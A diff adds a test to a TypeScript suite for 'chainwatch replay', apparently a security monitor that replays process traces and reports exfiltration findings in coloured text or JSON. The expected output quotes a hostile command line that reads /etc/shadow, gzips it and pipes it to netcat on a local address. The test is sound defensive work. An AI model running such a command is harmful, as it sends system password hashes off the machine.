@@ -12,7 +12,28 @@ const cli = join(import.meta.dirname, '../../../dist/src/cli/main.js');
 const replays = join(import.meta.dirname, '../../../replays');
 const run = (...args: string[]) => spawnSync(process.execPath, [cli, 'replay', ...args], { encoding: 'utf8' });
 
+/** The CLI with stdout on a terminal (a pseudo-terminal from util-linux `script`); stderr discarded. */
+function onTerminal(args: string[], env: Record<string, string> = {}): string {
+  const cmd = [process.execPath, cli, 'replay', ...args].map((a) => `'${a}'`).join(' ');
+  const r = spawnSync('script', ['-qec', `${cmd} 2>/dev/null`, '/dev/null'], { encoding: 'utf8', env: { ...process.env, ...env } });
+  expect(r.status, r.stderr).toBe(0);
+  return r.stdout.replace(/\r\n/g, '\n');
+}
+
 describe('chainwatch replay', () => {
+  it('findings as text for a person: by default on a terminal (coloured unless NO_COLOR), with --findings-format text anywhere; JSON Lines to a pipe', () => {
+    const trace = join(replays, 'pipeline-gzip-nc.trace.jsonl.gz');
+    const tty = onTerminal([trace]);
+    expect(tty).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \x1b\[31mHIGH\x1b\[0m +exfil\.read-then-transmit  task pipeline-gzip-nc\n/);
+    expect(tty).toMatch(/\n  process    nc -N 127\.0\.0\.2 \d+  \[pid \d+, \/usr\/bin\/nc\]\n  started by bash -c 'cat \/etc\/shadow \| gzip \| nc -N 127\.0\.0\.2 \d+'  \[pid \d+, \/usr\/bin\/bash\]\n/);
+    expect(onTerminal([trace], { NO_COLOR: '1' })).not.toContain('\x1b');
+    expect(Finding.parse(JSON.parse(onTerminal([trace, '--findings-format', 'json']).trim())).rule).toBe('exfil.read-then-transmit');
+    const piped = run(trace, '--findings-format', 'text');
+    expect(piped.status).toBe(0);
+    expect(piped.stdout).toBe(onTerminal([trace], { NO_COLOR: '1' }));
+    expect(run(trace).stdout.startsWith('{"id":')).toBe(true);
+  });
+
   it('prints only findings on stdout, logs on stderr', () => {
     const r = run(join(replays, 'curl-put-shadow.trace.jsonl.gz'));
     expect(r.status).toBe(0);
